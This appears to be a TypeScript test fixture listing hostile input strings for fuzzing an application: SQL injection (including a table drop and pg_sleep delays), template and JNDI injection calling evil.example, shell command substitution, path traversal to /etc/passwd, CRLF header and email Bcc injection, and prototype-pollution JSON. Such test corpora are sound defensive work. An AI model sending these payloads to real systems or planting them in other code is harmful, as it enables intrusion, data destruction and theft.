import { each } from "./each.ts";

export const code: Record<string, string[]> = {
  SQL: each(`
'
"
''
' or '1'='1
' or 1=1 --
'; drop table contacts; --
1; select pg_sleep(20)
' || pg_sleep(20) || '
$1
$$; select 1; $$
:name
%
_
%%%%%%%%
\\
\\\\
\\'
a\\%b\\_c
/* */
--
a & b | !c <-> d:*
' & !
"unclosed phrase
"" ""
{a,b}
{"a":NULL}
NULL
E'\\x00'
\\x00
\\u0000
\\ud800
\\N
\\.`),
  "templates and formats": each(`
%s
%d%x%p
%(name)s
\${7*7}
{{7*7}}
{{constructor.constructor('window.__nasty=1')()}}
{0}
{count}
{name}
{
}
{}
{count, plural, one {#} other {#}}
{count, plural,
{count, plural, =0 {
{x, select, a {b}}
'{'
<b>{name}</b>
<link>x</link>
$&
$\`
$'
\\1
$(id)
\`id\`
| id
\${jndi:ldap://evil.example/a}
{address}
x" onclick="
{agency}
@ana @Ben @everyone
@`),
  paths: each(`
../../../../etc/passwd
..\\..\\windows\\system32
..
/
//
\\\\server\\share
CON
NUL
COM1.csv
a/b\\c:d*e?f"g<h>i|j.csv
file name.csv;x=y
~root`),
  headers: [
    "x\r\nSet-Cookie: parley=1",
    "x\nLocation: https://evil.example",
    "/dashboard\r\nX-Evil: 1",
    "x\r\n\r\n<script>window.__nasty=1</script>",
    "x%0d%0aSet-Cookie: parley=1",
    "嘊嘍Set-Cookie: parley=1",
    "ana@example.com\r\nBcc: all@example.com",
    "=?utf-8?q?=00?=",
    'x"; filename="y.csv',
    "--boundary--",
    "a; b; c=d",
  ],
  "names of JavaScript": each(`
__proto__
constructor
toString
then
toJSON
undefined
null
true
false
NaN
Infinity
[object Object]
{"__proto__":{"admin":true}}
{"constructor":{"prototype":{"admin":true}}}
["a"]
[[[[[[
{"a":"\\u0000"}
{"a":"\\ud800"}
{"name":"\\u0000","tags":[]}
{"length":1e9}
[null]
{}x
$undefined
$@1
$K1
$ACTION_ID_0
agency`),
};
